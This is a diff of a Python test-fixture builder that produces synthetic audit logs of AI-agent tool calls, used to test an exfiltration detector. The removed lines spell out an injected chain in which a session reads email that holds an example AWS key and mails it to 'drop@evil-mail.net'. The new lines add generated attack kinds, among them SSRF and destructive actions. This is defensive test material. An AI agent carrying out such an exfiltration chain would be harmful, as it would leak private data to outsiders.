@@ -1,31 +1,24 @@
 """Build a real data dir for the dashboard tests and benchmark through the product's own write
-path: events go through `ingest.pipeline.Ingestor` (validate, redact, chain, WAL, segments,
-signed checkpoints) and alerts come from `detect.engine.DetectionEngine` over the stored records.
+path: events from the labeled traffic generator (`detect.traffic`) go through
+`ingest.pipeline.Ingestor` (validate, redact, chain, WAL, segments, signed checkpoints) and the
+alerts come from `detect.engine.DetectionEngine` over the stored records.
 
-The traffic holds benign sessions of a few principals plus one injected exfiltration chain:
-session EXFIL_SESSION reads mail, then mails it to an outside domain (rule TT-EXFIL-001).
+On top of the generated personas' traffic, one exfiltration chain is injected in session
+EXFIL_SESSION twenty minutes before `end`: a mail read, a read of a customer export, and a mail
+of it to an outside domain (rule TT-EXFIL-001).
 """
 
 from __future__ import annotations
 
-import random
+from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
-EXFIL_SESSION = "sess-exfil-0042"
-EXFIL_PRINCIPAL = "mallory@acme.example"
-PRINCIPALS = ("alice@acme.example", "bob@acme.example", "carol@acme.example", "svc-ci", "svc-reporting")
-BENIGN_TOOLS = (
-    ("github", "list_issues", lambda r: {"repo": "acme/web", "state": "open"}),
-    ("github", "get_file_contents", lambda r: {"repo": "acme/web", "path": f"src/mod{r.randint(1, 40)}.py"}),
-    ("filesystem", "list_directory", lambda r: {"path": "/srv/app"}),
-    ("slack", "list_channels", lambda r: {}),
-    ("postgres", "list_tables", lambda r: {}),
-    ("jira", "search_issues", lambda r: {"jql": "project = WEB"}),
-    ("docs", "search", lambda r: {"q": "deploy checklist"}),
-)
+EXFIL_SESSION = "s-exfil-0042"
+EXFIL_PRINCIPAL = "mallory.support"
+EXTRA_ATTACKS = ("secret_in_args", "denied_spike", "ssrf", "destructive_no_approval")
 
 
 @dataclass
@@ -39,84 +32,87 @@ class Built:
     end: datetime
 
 
-def _benign(rnd: random.Random, ts: datetime, i: int) -> dict[str, Any]:
-    principal = rnd.choice(PRINCIPALS)
-    server, tool, args = rnd.choice(BENIGN_TOOLS)
-    deny = rnd.random() < 0.03
-    return {"event_id": f"bench-{i}", "ts": ts.isoformat().replace("+00:00", "Z"), "principal": principal,
-            "agent": "claude-code", "session": f"sess-{principal.split('@')[0]}-{i // 40}", "server": server,
-            "tool": tool, "args": args(rnd), "decision": "deny" if deny else "allow",
-            "scope_checked": f"{server}:read", "result": "denied" if deny else "ok",
-            "latency_ms": rnd.randint(5, 400), "result_bytes": rnd.randint(100, 20000)}
+def _iso(dt: datetime) -> str:
+    return dt.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
 
 
-def exfil_chain(t0: datetime) -> list[dict[str, Any]]:
-    base = {"principal": EXFIL_PRINCIPAL, "agent": "claude-desktop", "session": EXFIL_SESSION, "token_id": "tok-77"}
-
-    def at(s: float) -> str:
-        return (t0 + timedelta(seconds=s)).isoformat().replace("+00:00", "Z")
-
-    return [
-        {**base, "event_id": "exfil-1", "ts": at(0), "server": "fetch", "tool": "fetch",
-         "args": {"url": "https://docs.example.org/howto"}, "decision": "allow", "result": "ok", "latency_ms": 120},
-        {**base, "event_id": "exfil-2", "ts": at(8), "server": "github", "tool": "create_issue",
-         "args": {"repo": "acme/web", "title": "x"}, "decision": "deny", "scope_checked": "repo:write",
-         "result": "denied", "reason": "scope repo:write not granted"},
-        {**base, "event_id": "exfil-3", "ts": at(20), "server": "gmail", "tool": "read_email",
-         "args": {"id": "msg-8812", "note": "aws key AKIAIOSFODNN7EXAMPLE in thread"}, "decision": "allow",
-         "result": "ok", "latency_ms": 95, "result_bytes": 18250},
-        {**base, "event_id": "exfil-4", "ts": at(45), "server": "gmail", "tool": "send_email",
-         "args": {"to": "drop@evil-mail.net", "subject": "fwd: quarterly numbers", "body": "see below"},
-         "decision": "allow", "result": "ok", "latency_ms": 310},
-    ]
-
-
-def build(data_dir: Path | str, *, benign: int = 600, span: timedelta = timedelta(hours=3),
-          end: datetime | None = None, seed: int = 7, chain_id: str = "local", batch: int = 5000) -> Built:
-    """Write `benign` events spread over `span` up to `end` (default: now) plus the exfiltration
-    chain near the end, run the detectors over them, and return what was built."""
-    from detect.engine import DetectionEngine
-    from ingest.pipeline import Ingestor
+def config_for(data_dir: Path | str) -> Any:
+    from detect.traffic import DEMO_CATALOG
     from tooltrail.config import load_config
 
-    cfg = load_config(None, data_dir=str(data_dir), env={})
-    rnd = random.Random(seed)
-    end = (end or datetime.now(UTC)) - timedelta(seconds=5)
-    start = end - span
-    step = span / max(1, benign)
+    return load_config(None, data_dir=str(data_dir), env={"TOOLTRAIL_DETECT__CATALOG_FILE": str(DEMO_CATALOG)})
+
+
+def traffic(end: datetime, days: int, principals: int, seed: int) -> Iterator[tuple[str, dict[str, Any]]]:
+    """(source, wire event) in time order: `days` days of personas' traffic up to `end`,
+    with a few rule-kind attacks and the injected exfiltration chain."""
+    from detect.traffic import exfiltration_session, generate
+
+    start = (end - timedelta(days=days)).replace(microsecond=0)
     t_exfil = end - timedelta(minutes=20)
+    chain = exfiltration_session(EXFIL_PRINCIPAL, EXFIL_SESSION, start=t_exfil.timestamp())
+    end_s = _iso(end)
+    for le in generate(seed=seed, days=days, principals=principals, attacks=True, start=_iso(start).split(".")[0] + "Z",
+                       attacks_per_kind=1, kinds=EXTRA_ATTACKS):
+        ev = le.event
+        if ev is None:
+            continue
+        if ev["ts"] > end_s:
+            break
+        while chain and chain[0]["ts"] <= ev["ts"]:
+            yield "gw-support", chain.pop(0)
+        yield le.source, ev
+    for ev in chain:
+        yield "gw-support", ev
+
+
+def build(data_dir: Path | str, *, days: int = 2, principals: int = 20, end: datetime | None = None, seed: int = 3,
+          chain_id: str = "local", batch: int = 5000, detect: bool = True) -> Built:
+    """Write the traffic through the Ingestor, run the detectors over the stored records,
+    and return what was built. Also stores three malformed events (quarantine)."""
+    from detect.engine import DetectionEngine
+    from ingest.pipeline import Ingestor
+
+    cfg = config_for(data_dir)
+    end = (end or datetime.now(UTC)) - timedelta(seconds=30)
     ing = Ingestor.open(cfg, chain_id)
-    engine = DetectionEngine.from_config(cfg, with_stats=False)
+    engine = DetectionEngine.from_config(cfg, with_stats=False) if detect else None
     stored = 0
+    first: datetime | None = None
     exfil_records: list[dict[str, Any]] = []
-    pending = exfil_chain(t_exfil)
-    try:
-        items: list[dict[str, Any]] = []
-        for i in range(benign):
-            ts = start + step * i
-            while pending and pending[0]["ts"] <= ts.isoformat().replace("+00:00", "Z"):
-                items.append(pending.pop(0))
-            items.append(_benign(rnd, ts, i))
-            if len(items) >= batch:
-                res = ing.submit(items, source="test-gateway")
-                stored += res.stored
-                engine.process(res.records)
-                exfil_records += [r for r in res.records if r.get("session") == EXFIL_SESSION]
-                items = []
-        items += pending
-        # three malformed events: they must land in quarantine with their reasons
-        items += [{"ts": end.isoformat(), "session": "s", "tool": "t", "decision": "allow"},
-                  {"ts": end.isoformat(), "principal": "p", "session": "s", "tool": "t", "decision": "maybe"},
-                  {"ts": "yesterday", "principal": "p", "session": "s", "tool": "t", "decision": "allow"}]
-        if items:
-            res = ing.submit(items, source="test-gateway")
-            stored += res.stored
+
+    def flush(source: str, items: list[dict[str, Any]]) -> None:
+        nonlocal stored
+        res = ing.submit(items, source=source)
+        stored += res.stored
+        if engine is not None:
             engine.process(res.records)
-            exfil_records += [r for r in res.records if r.get("session") == EXFIL_SESSION]
+        exfil_records.extend(r for r in res.records if r.get("session") == EXFIL_SESSION)
+
+    try:
+        cur_src, items = None, []
+        for src, ev in traffic(end, days, principals, seed):
+            if first is None:
+                first = datetime.fromisoformat(ev["ts"].replace("Z", "+00:00"))
+            if (src != cur_src and items) or len(items) >= batch:
+                flush(cur_src, items)
+                items = []
+            cur_src = src
+            items.append(ev)
+        if items:
+            flush(cur_src, items)
+        bad = [{"ts": _iso(end), "session": "s", "tool": "t", "decision": "allow"},
+               {"ts": _iso(end), "principal": "p", "session": "s", "tool": "t", "decision": "maybe"},
+               {"ts": "yesterday", "principal": "p", "session": "s", "tool": "t", "decision": "allow"}]
+        ing.submit(bad, source="gw-legacy")
         ing.flush()
     finally:
         ing.close()
-    alerts = engine.store.alerts()
-    engine.save_state()
-    exfil = next((a for a in alerts if a.rule_id == "TT-EXFIL-001"), None)
-    return Built(cfg, stored, alerts, exfil.alert_id if exfil else None, exfil_records, start, end)
+    alerts: list[Any] = []
+    exfil_id = None
+    if engine is not None:
+        alerts = engine.store.alerts()
+        engine.save_state()
+        exfil = next((a for a in alerts if a.rule_id == "TT-EXFIL-001" and a.entities.session == EXFIL_SESSION), None)
+        exfil_id = exfil.alert_id if exfil else None
+    return Built(cfg, stored, alerts, exfil_id, exfil_records, first or end, end)
